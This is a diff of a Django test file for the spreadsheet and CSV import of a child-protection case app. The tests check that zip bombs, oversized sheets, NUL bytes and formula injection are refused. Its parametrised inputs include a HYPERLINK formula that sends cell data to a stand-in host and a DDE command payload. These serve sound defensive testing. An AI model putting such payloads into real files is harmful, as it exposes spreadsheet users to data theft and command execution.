@@ -26,41 +26,15 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import Workbook
 
 from cases.models import Child
 from childprotect.core.imports import FileRefused, read_table
-from childprotect.core.models import ImportJob, ImportStatus
+from childprotect.core.models import ImportStatus
 from tests.support.builders import COLUMNS, child_row, csv_file
 
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_celery")]
-
-
-@pytest.fixture
-def upload(client, django_capture_on_commit_callbacks):
-    """upload(user, content, name) -> the ImportJob after its preview ran (posted through the page)."""
-
-    def send(user, content: bytes, name: str = "tre-em.csv", kind: str = "children") -> ImportJob:
-        client.force_login(user)
-        with django_capture_on_commit_callbacks(execute=True):
-            response = client.post(reverse("imports"), {"kind": kind, "file": SimpleUploadedFile(name, content)})
-        assert response.status_code == 302, response.content.decode()[:500]
-        return ImportJob.objects.latest("id")
-
-    return send
-
-
-@pytest.fixture
-def confirm(client, django_capture_on_commit_callbacks):
-    def go(job: ImportJob) -> ImportJob:
-        with django_capture_on_commit_callbacks(execute=True):
-            assert client.post(reverse("import_confirm", args=[job.pk])).status_code == 302
-        job.refresh_from_db()
-        return job
-
-    return go
 
 
 REPO_ROOT = Path(__file__).resolve().parents[2]
@@ -186,8 +160,8 @@ def test_a_zip_bomb_is_refused_before_it_is_inflated_and_the_worker_stays_small(
     print(f"zip bomb: peak RSS of the reading process {outcome['rss_mb']:.0f} MB")
 
 
-def test_a_zip_bomb_upload_ends_refused_and_writes_nothing(upload, supervisor, zip_bomb):
-    job = upload(supervisor, zip_bomb.read_bytes(), "bom.xlsx")
+def test_a_zip_bomb_upload_ends_refused_and_writes_nothing(import_upload, supervisor, zip_bomb):
+    job = import_upload(supervisor, zip_bomb.read_bytes(), "bom.xlsx")
 
     assert job.status == ImportStatus.REFUSED
     assert "giải nén" in job.plan["message"]
@@ -222,7 +196,7 @@ def _lying_wide_sheet() -> bytes:
 
 
 @pytest.mark.parametrize("where", ["header", "data", "hidden", "csv-header", "csv-data"])
-def test_16384_columns_are_refused_by_the_column_limit(upload, supervisor, where):
+def test_16384_columns_are_refused_by_the_column_limit(import_upload, supervisor, where):
     wide = [f"Cột {i}" for i in range(len(COLUMNS) + 1, 16385)]
     if where == "csv-header":
         content, name = csv_file([child_row("Nguyễn Văn An")], [*COLUMNS, *wide]), "rong.csv"
@@ -231,7 +205,7 @@ def test_16384_columns_are_refused_by_the_column_limit(upload, supervisor, where
     else:
         content, name = (_lying_wide_sheet() if where == "hidden" else _wide_sheet(where)), "rong.xlsx"
 
-    job = upload(supervisor, content, name)
+    job = import_upload(supervisor, content, name)
 
     assert job.status == ImportStatus.REFUSED, job.plan
     assert "quá nhiều cột" in job.plan["message"]
@@ -287,13 +261,13 @@ def _child_columns():
 # --- CSV -----------------------------------------------------------------------------------------------------------
 
 
-def test_nul_bytes_late_in_a_csv_are_refused_naming_the_row(upload, supervisor):
+def test_nul_bytes_late_in_a_csv_are_refused_naming_the_row(import_upload, supervisor):
     rows = [child_row(f"Trẻ em số {i}") for i in range(6000)]
     rows[4998] = child_row("Trẻ em\x00 số 4998")  # row 5000 of the sheet (the header is row 1)
     content = csv_file(rows)
     assert b"\x00" not in content[:8192]
 
-    job = upload(supervisor, content)
+    job = import_upload(supervisor, content)
 
     assert job.status == ImportStatus.REFUSED, job.plan
     assert "ký tự NUL" in job.plan["message"]
@@ -301,7 +275,7 @@ def test_nul_bytes_late_in_a_csv_are_refused_naming_the_row(upload, supervisor):
     assert not Child.objects.exists()
 
 
-def test_mixed_line_endings_are_read_as_rows(upload, confirm, supervisor):
+def test_mixed_line_endings_are_read_as_rows(import_upload, import_confirm, supervisor):
     out = io.StringIO()
     csv.writer(out, lineterminator="\n").writerow(COLUMNS)
     lines = [out.getvalue().rstrip("\n")]
@@ -311,11 +285,11 @@ def test_mixed_line_endings_are_read_as_rows(upload, confirm, supervisor):
         lines.append(buffer.getvalue())
     content = ("\ufeff" + lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n" + lines[4]).encode()
 
-    job = upload(supervisor, content)
+    job = import_upload(supervisor, content)
 
     assert job.status == ImportStatus.CHECKED, job.plan
     assert job.plan["rows"] == job.plan["create"] == 4
-    confirm(job)
+    import_confirm(job)
     assert sorted(Child.objects.values_list("full_name", flat=True)) == sorted(
         ["Nguyễn Văn An", "Lê Thị Hoa", "Trần Minh Khôi", "Phạm Thu Hà"]
     )
@@ -334,7 +308,7 @@ def _with_address(name: str, address: str) -> list[str]:
     ['=HYPERLINK("http://x.example/?q="&A2,"Bấm vào đây")', '+HYPERLINK("http://x.example")', "-cmd|' /C calc'!A0"],
     ids=["equals", "plus-function", "dde"],
 )
-def test_a_formula_in_the_address_column_refuses_the_row(upload, supervisor, kind, address):
+def test_a_formula_in_the_address_column_refuses_the_row(import_upload, supervisor, kind, address):
     rows = [_with_address("Trẻ em tốt", "Thôn 1"), _with_address("Nguyễn Văn An", address)]
     if kind == "csv":
         content, name = csv_file(rows, ADDRESS_COLUMNS), "tre-em.csv"
@@ -347,7 +321,7 @@ def test_a_formula_in_the_address_column_refuses_the_row(upload, supervisor, kin
         book.save(out)
         content, name = out.getvalue(), "tre-em.xlsx"
 
-    job = upload(supervisor, content, name)
+    job = import_upload(supervisor, content, name)
 
     assert job.status == ImportStatus.REFUSED, job.plan
     assert job.plan["errors"][0][0] == 3
@@ -356,12 +330,12 @@ def test_a_formula_in_the_address_column_refuses_the_row(upload, supervisor, kin
 
 
 def test_phone_like_and_dash_addresses_are_data_kept_as_text_and_neutralised_on_export(
-    upload, confirm, client, supervisor
+    import_upload, import_confirm, client, supervisor
 ):
     addresses = {"Nguyễn Văn An": "+84 912 345 678", "Lê Thị Hoa": "-", "Trần Minh Khôi": "- không rõ -"}
-    job = upload(supervisor, csv_file([_with_address(n, a) for n, a in addresses.items()], ADDRESS_COLUMNS))
+    job = import_upload(supervisor, csv_file([_with_address(n, a) for n, a in addresses.items()], ADDRESS_COLUMNS))
     assert job.status == ImportStatus.CHECKED, job.plan
-    confirm(job)
+    import_confirm(job)
     assert dict(Child.objects.values_list("full_name", "address")) == addresses
 
     response = client.get(reverse("cases:child_export"), {"format": "csv"})
@@ -370,7 +344,7 @@ def test_phone_like_and_dash_addresses_are_data_kept_as_text_and_neutralised_on_
     assert exported == {name: "'" + address for name, address in addresses.items()}
 
 
-def test_an_upload_page_shows_the_refusal(client, upload, supervisor):
-    job = upload(supervisor, _wide_sheet("header"), "rong.xlsx")
+def test_an_upload_page_shows_the_refusal(client, import_upload, supervisor):
+    job = import_upload(supervisor, _wide_sheet("header"), "rong.xlsx")
     response = client.get(reverse("import_detail", args=[job.pk]))
     assert "quá nhiều cột" in response.content.decode()
